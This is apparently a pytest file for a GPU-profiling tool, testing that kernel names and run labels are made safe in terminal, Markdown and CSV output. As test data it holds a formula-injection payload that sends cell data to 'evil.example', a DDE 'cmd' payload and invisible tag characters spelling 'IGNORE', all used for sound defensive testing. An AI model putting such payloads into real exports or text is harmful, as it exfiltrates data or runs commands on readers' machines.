"""Issue 38, text that lies: what a terminal, Markdown, a spreadsheet and ``phases`` show of a name.

Before: ``safe_text`` let Unicode tag characters (a sentence no one sees), the soft hyphen, U+180E,
the interlinear annotation marks U+FFF9-FFFB and the Hangul filler U+3164 through into tables and
Markdown; ``phases`` escaped its text after ``splitlines()``, so a run label's ``\\n``, ``\\r`` or
U+2028 printed lines of its own; ``export -o x.csv`` and ``summary --csv`` wrote
``=HYPERLINK(...)`` as it came (a spreadsheet runs it); an SGLang log and a vLLM log concatenated
were read as the first alone, the other's runs gone without a word. Each case is the real command
line under the fault suite's limits, on reports of the corpus whose kernel names were rewritten
(``analysis.report_edit``) and on the shared serving logs."""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from analysis.report_edit import rename_kernels
from ncuflow.files.safe_text import (
    BLANK_LOOKALIKES,
    FORMULA_PREFIX,
    FORMULA_STARTS,
    HIDDEN_CATEGORIES,
    is_hidden,
    safe_text,
)
from ncuflow.phases.detect import load_traces
from ncuflow.phases.parse import registry
from tests.hostile import FIGURES, figures_line, run_limited

SMALL = "yzwang2000__cudaCode__profile.ncu-rep"
# What the issue found passing, each around a visible word: tag characters spelling "IGNORE", the soft
# hyphen, U+180E, U+FFF9-FFFB, the Hangul filler; and a private-use and an unassigned code point.
INVISIBLE = ("k\U000e0049\U000e0047\U000e004e\U000e004f\U000e0052\U000e0045|\u00ad|\u180e|\ufff9\ufffa\ufffb|"
             "\u3164|\ue000|\U000f0001|\u0378")
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")
SEEN: Counter[str] = Counter()


@pytest.fixture(scope="module", autouse=True)
def _print_figures() -> Iterator[None]:
    yield
    print(figures_line("text figures", SEEN), figures_line("fault suite so far", FIGURES))


def _hidden_shown(text: str) -> list[str]:
    """Hidden characters in ``text``, but the line breaks and tabs of ncuflow's own output."""
    found = sorted({f"U+{ord(c):04X}" for c in text if c not in "\n\t" and is_hidden(c)})
    SEEN["hidden_characters_reaching_output"] += len(found)
    return found


def test_every_hidden_code_point_is_shown_escaped() -> None:
    """Every code point of the hidden categories (and the blank look-alikes), on every target: none
    survives; visible text (accents, dashes, CJK, emoji) is left as it is."""
    hidden = "".join(chr(c) for c in range(sys.maxunicode + 1)
                     if unicodedata.category(chr(c)) in HIDDEN_CATEGORIES and not 0xD800 <= c < 0xE000)
    hidden += "".join(BLANK_LOOKALIKES)
    for target in ("terminal", "rich", "markdown", "plot"):
        assert not _hidden_shown(safe_text(hidden, target, limit=None)), target  # type: ignore[arg-type]
    visible = "café — 東京 😀 naïve ø"
    assert safe_text(visible) == visible and safe_text(visible, "markdown") == visible
    assert safe_text("a\u00adb") == "a\\xadb" and safe_text("\U000e0049") == "\\U000e0049"
    SEEN["hidden_code_points_checked"] += len(hidden)


@pytest.fixture(scope="module")
def reports(corpus_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("text")
    invisible, formulas = base / "invisible.ncu-rep", base / "formulas.ncu-rep"
    rename_kernels(corpus_dir / SMALL, invisible, lambda index, old: f"{INVISIBLE}{index}")
    rename_kernels(corpus_dir / SMALL, formulas, lambda index, old: FORMULAS[index % len(FORMULAS)])
    return {"invisible": invisible, "formulas": formulas}


@pytest.mark.parametrize("command", ["classify", "summary", "summary --csv", "classify --json"])
def test_no_invisible_character_of_a_kernel_name_reaches_the_terminal(reports: dict[str, Path], command: str) -> None:
    name, *flags = command.split()
    ran = run_limited([name, str(reports["invisible"]), *flags], case="text invisible names")
    SEEN["display_cases"] += 1
    assert ran.code in (0, 1) and not ran.traceback and not ran.timed_out, ran.output[-2000:]
    if command == "classify --json":  # JSON quotes what it must; the name is data, read back whole
        assert INVISIBLE in json.dumps(json.loads(ran.stdout), ensure_ascii=False)
        return
    if command != "summary --csv":
        assert not _hidden_shown(ran.stdout + ran.stderr), ran.stdout[-1500:]
        assert "\\U000e0049" in ran.stdout  # shown, escaped
        SEEN["terminal_outputs_clean"] += 1


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ (or a tab or CR) and not a plain number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    found = [cell for cell in cells if cell and cell[0] in FORMULA_STARTS and not number(cell)]
    SEEN["formula_cells_written"] += len(found)
    return found


def test_summary_csv_quotes_every_formula(reports: dict[str, Path]) -> None:
    ran = run_limited(["summary", str(reports["formulas"]), "--csv"], case="text summary --csv formulas")
    assert ran.code == 0 and not ran.traceback, ran.output[-2000:]
    cells = _cells(ran.stdout)
    assert not _formula_cells(cells), _formula_cells(cells)
    assert FORMULA_PREFIX + FORMULAS[0] in cells  # the name kept whole, behind the quote
    assert any(cell.replace(".", "", 1).isdigit() for cell in cells)  # numbers untouched


def test_export_csv_quotes_every_formula(reports: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "launches.csv"
    ran = run_limited(["export", str(reports["formulas"]), "-o", str(out)], case="text export csv formulas")
    assert ran.code == 0 and not ran.traceback, ran.output[-2000:]
    cells = _cells(out.read_text())
    assert not _formula_cells(cells), _formula_cells(cells)[:5]
    assert FORMULA_PREFIX + FORMULAS[0] in cells
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert all(float(row["duration_ns"]) > 0 for row in rows)  # numbers untouched
    SEEN["csv_files_checked"] += 1


LABELS = ("a\nINJECTED by a newline", "b\rINJECTED by a return", "c\u2028INJECTED by U+2028",
          "d\u0085INJECTED by NEL", "e\u2029INJECTED by U+2029", "f\x0bINJECTED by a vertical tab")


def test_a_run_label_starts_no_line_of_its_own(tmp_path: Path) -> None:
    trace = tmp_path / "labels.jsonl"
    with trace.open("w") as handle:
        for number, label in enumerate(LABELS):
            for request in range(12):
                start = number * 100 + request * 0.1
                handle.write(json.dumps({"run": label, "submit_time": start,
                                         "chunk_times": [start + 0.05 + 0.01 * k for k in range(20)]}) + "\n")
    ran = run_limited(["phases", str(trace), "--runs", "all"], case="text phases labels")
    assert ran.code == 0 and not ran.traceback, ran.output[-2000:]
    lines = ran.stdout.splitlines()  # what splitlines (and a terminal) reads as a line
    injected = [line for line in lines if line.lstrip().startswith("INJECTED")]
    SEEN["lines_injected"] += len(injected)
    assert not injected and not _hidden_shown(ran.stdout), injected
    assert all(f"INJECTED by {how}" in ran.stdout for how in ("a newline", "U+2028", "NEL"))
    SEEN["labels_checked"] += len(LABELS)


def _concatenated(serving_logs_dir: Path, tmp_path: Path, order: tuple[str, str]) -> Path:
    logs = {name: next(p for p in sorted(serving_logs_dir.glob("*.log")) if (name == "vllm") == ("vllm" in p.name))
            for name in order}
    path = tmp_path / f"{'-then-'.join(order)}.log"
    path.write_bytes(b"".join(logs[name].read_bytes() for name in order))
    return path


@pytest.mark.parametrize("order", [("sglang", "vllm"), ("vllm", "sglang")])
def test_two_servers_logs_in_one_file_are_refused_with_where_the_second_starts(
        serving_logs_dir: Path, tmp_path: Path, order: tuple[str, str]) -> None:
    path = _concatenated(serving_logs_dir, tmp_path, order)
    ran = run_limited(["phases", str(path)], case="text two log formats")
    second = registry.format_named(order[1])
    assert second is not None
    assert ran.paragraph() and ran.code == 2 and "two servers' logs" in ran.stderr, ran.output[-2000:]
    assert second.title in ran.stderr and "before line " in ran.stderr
    forced = run_limited(["phases", str(path), "--format", order[1]], case="text two log formats, --format")
    assert forced.code == 0 and not forced.traceback, forced.output[-2000:]
    SEEN["mixed_logs_refused"] += 1


def test_every_shared_log_is_still_one_format(serving_logs_dir: Path) -> None:
    """No shared log holds a line another format claims: none is refused as two logs."""
    for log in sorted(serving_logs_dir.glob("*.log")):
        assert load_traces(log), log
        SEEN["shared_logs_read"] += 1
